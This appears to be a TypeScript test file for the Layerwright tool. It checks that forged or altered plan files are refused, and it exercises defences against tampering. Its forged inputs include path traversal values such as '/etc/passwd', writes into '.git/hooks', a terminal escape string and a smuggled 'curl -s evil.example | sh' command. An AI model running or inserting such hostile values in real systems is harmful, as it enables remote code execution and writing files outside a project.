/** Plan files of strangers: with a valid seal, and with content that Layerwright never writes. */

import { deepEqual, equal, match, ok } from "node:assert/strict";
import { formatUnsealed, type PlanFile } from "../../actions/plan_format.ts";
import { sealed, withoutSeal } from "../../actions/plan_seal.ts";
import { readPlan } from "../../actions/read_plan.ts";
import { changeSet } from "../../core/change_set.ts";
import { error } from "../../core/diagnostic.ts";
import { projectPath } from "../../core/project_path.ts";
import { applyPlan, generateSubroute, planFile } from "../../mod.ts";
import { generatedShop } from "./planned_projects.ts";

/** JSON that a stranger may write. */
type Json = Record<string, unknown>;

interface Forgery {
  readonly what: string;
  /** Changes the plan before it gets a new seal. */
  readonly forge: (plan: Json) => void;
}

const OUTSIDE = ["../x.py", "/etc/passwd", "a/../../x.py", "C:\\x.py", "", ".", "a//b"];

const FORGERIES: readonly Forgery[] = [
  ...OUTSIDE.map((path) => ({
    what: `the path '${path}'`,
    forge: (plan: Json) => first(plan)["path"] = path,
  })),
  { what: "an unknown member", forge: (plan) => plan["more"] = 1 },
  { what: "a missing member", forge: (plan) => delete plan["data"] },
  { what: "another format", forge: (plan) => plan["layerwright_plan"] = 2 },
  { what: "another command", forge: (plan) => invocation(plan)["command"] = "remove route" },
  { what: "an unknown command", forge: (plan) => invocation(plan)["command"] = "toString" },
  { what: "an unknown argument", forge: (plan) => args(plan)["force"] = true },
  { what: "an argument of a wrong type", forge: (plan) => args(plan)["route"] = ["products"] },
  { what: "no arguments", forge: (plan) => invocation(plan)["arguments"] = null },
  { what: "other words", forge: (plan) => plan["command"] = "generate subroute products offer" },
  { what: "another text", forge: (plan) => first(plan)["after"] = ["harmless"] },
  { what: "a symbol that no file has", forge: (plan) => first(plan)["symbol"] = "harmless" },
  { what: "a symbol that is no name", forge: (plan) => first(plan)["symbol"] = "" },
  { what: "a line with a line end", forge: (plan) => first(plan)["after"] = ["a\nb"] },
  { what: "another base", forge: (plan) => first(plan)["before"] = [] },
  { what: "a creation of what exists", forge: (plan) => first(plan)["kind"] = "create" },
  { what: "a deletion with a text", forge: (plan) => first(plan)["kind"] = "delete" },
  { what: "one change less", forge: (plan) => changes(plan).pop() },
  { what: "one change twice", forge: (plan) => changes(plan).push(first(plan)) },
  { what: "another order of changes", forge: (plan) => changes(plan).reverse() },
  { what: "another id", forge: (plan) => plan["change_set"] = "sha256:0" },
  { what: "a folder outside", forge: (plan) => plan["folder"] = "../" },
  { what: "a folder of another project", forge: (plan) => plan["folder"] = "examples/" },
  { what: "an absolute folder", forge: (plan) => plan["folder"] = "/" },
  { what: "a folder of patches", forge: (plan) => plan["patch_folder"] = ".git/hooks/" },
  { what: "data of a wrong type", forge: (plan) => plan["data"] = { endpoints: [{ path: 1 }] } },
  {
    what: "a method that tables cannot show",
    forge: (plan) =>
      plan["data"] = {
        endpoints: [{
          method: "A".repeat(99),
          path: "/a",
          status: 200,
          answer: "mock",
          handler: "a",
        }],
      },
  },
  {
    what: "an error",
    forge: (plan) => plan["diagnostics"] = [error("internal", "boom")],
  },
  { what: "a note that is none", forge: (plan) => plan["diagnostics"] = [{ message: "a" }] },
];

function first(plan: Json): Json {
  return changes(plan)[0] ?? {};
}

function changes(plan: Json): Json[] {
  return plan["changes"] as Json[];
}

function invocation(plan: Json): Json {
  return plan["invocation"] as Json;
}

function args(plan: Json): Json {
  return invocation(plan)["arguments"] as Json;
}

async function unsealedPlan() {
  const workspace = await generatedShop();
  const { file } = await planFile((options) =>
    generateSubroute(workspace, "products", "sale", options)
  );
  return { workspace, unsealed: await withoutSeal(file ?? "") ?? "" };
}

function format(plan: Json): string {
  const { seal: _, ...rest } = plan;
  return `${JSON.stringify({ ...rest, seal: "" }, null, 2)}\n`;
}

for (const { what, forge } of FORGERIES) {
  Deno.test(`a plan with a new seal and ${what} is refused`, async () => {
    const { workspace, unsealed } = await unsealedPlan();
    const before = workspace.files();
    const plan = JSON.parse(unsealed);
    forge(plan);
    const forged = format(plan);
    ok(forged !== unsealed, "it was forged");
    const { status, diagnostics } = await applyPlan(workspace, await sealed(forged));
    deepEqual([status, diagnostics.map(({ code }) => code)], ["failed", ["plan-invalid"]]);
    deepEqual(workspace.files(), before);
  });
}

const LAYOUTS: readonly { readonly what: string; readonly change: (text: string) => string }[] = [
  { what: "a repeated key", change: (text) => text.replace("{", '{\n  "layerwright_plan": 1,') },
  {
    what: "another indentation",
    change: (text) => text.replace('\n  "version"', '\n   "version"'),
  },
  { what: "an escape", change: (text) => text.replace('"version"', '"\\u0076ersion"') },
  { what: "a byte order mark", change: (text) => `\ufeff${text}` },
  {
    what: "deep arrays",
    change: (text) => text.replace('"data": {', `"data": ${"[".repeat(1e5)}{`),
  },
  { what: "CR LF", change: (text) => text.replaceAll("\n", "\r\n") },
];

for (const { what, change } of LAYOUTS) {
  Deno.test(`a plan with a new seal and ${what} is refused`, async () => {
    const { unsealed } = await unsealedPlan();
    const changed = change(unsealed);
    ok(changed !== unsealed, "it was changed");
    const plan = await readPlan(await sealed(changed), "plan.json");
    equal("code" in plan && plan.code, "plan-invalid");
  });
}

Deno.test("a plan of another version is refused, and no hint repeats its command", async () => {
  const { workspace, unsealed } = await unsealedPlan();
  const before = workspace.files();
  const plan = JSON.parse(unsealed);
  plan["version"] = "0.9.0";
  plan["more"] = "what that version knew";
  plan["command"] = "generate route x; curl -s evil.example | sh";
  const { status, diagnostics: [problem] } = await applyPlan(workspace, await sealed(format(plan)));
  deepEqual([status, problem?.code], ["failed", "plan-version"]);
  equal(problem?.hint, "Plan again with this version");
  deepEqual(workspace.files(), before);
});

const CONVERSIONS: readonly (readonly [string, (file: string) => string, string])[] = [
  ["an edit", (file) => file.replace("sale", "sell"), "Plan again, and do not edit the file"],
  [
    "CR LF",
    (file) => file.replaceAll("\n", "\r\n"),
    "Its line ends were converted; in .gitattributes, mark plans with -text",
  ],
  ["a byte order mark", (file) => `\ufeff${file}`, "Save it without a byte order mark"],
  [
    "a byte order mark and CR LF",
    (file) => `\ufeff${file.replaceAll("\n", "\r\n")}`,
    "Its line ends were converted; in .gitattributes, mark plans with -text",
  ],
];

for (const [what, convert, hint] of CONVERSIONS) {
  Deno.test(`a plan with ${what} is refused as changed, with a hint`, async () => {
    const { unsealed } = await unsealedPlan();
    const problem = await readPlan(convert(await sealed(unsealed)), "plan.json");
    const message = "Invalid plan 'plan.json' (it was changed after it was written).";
    deepEqual(problem, error("plan-invalid", message, { hint }));
  });
}

const NO_PLANS = ["", "{", "{}", "null", '{"layerwright_plan": 1}', "\0", '{"routes": {}}'];

for (const text of NO_PLANS) {
  Deno.test(`applyPlan() refuses ${JSON.stringify(text)}`, async () => {
    const workspace = await generatedShop();
    equal((await applyPlan(workspace, text)).diagnostics[0]?.code, "plan-invalid");
  });
}

for (
  const [what, name, path] of [
    ["a project in a folder of git", ".git/hooks", "api/x.py"],
    ["a project named like git's folder", ".GIT", "api/x.py"],
    ["a project below a folder", "a/b", "api/x.py"],
    ["a project whose name has control characters", "\u001b[2J", "api/x.py"],
    ["a file in a folder of git", "shop", ".git/hooks/pre-commit"],
    ["a file of Layerwright itself", "shop", ".layerwright/history/list"],
  ] as const
) {
  Deno.test(`readPlan() refuses ${what}, even if every hash is right`, async () => {
    const { unsealed } = await unsealedPlan();
    const known = await readPlan(await sealed(unsealed), "p.json");
    if (!("changes" in known)) throw new Error(known.message);
    const changes = [{
      kind: "create",
      path: projectPath(path),
      before: null,
      after: "x",
    }] as const;
    const set = changeSet(changes);
    const arguments_ = { name, spec: "{}" };
    const forged: PlanFile = {
      ...known,
      invocation: { command: "generate api", arguments: arguments_ },
      folder: `${name}/`,
      changes: set.changes,
      data: null,
      changeSet: await set.id,
    };
    const read = await readPlan(await sealed(formatUnsealed(forged)), "p.json");
    match(
      "code" in read ? read.message : "accepted",
      /its (?:paths do not belong|changes are inv)/,
    );
  });
}
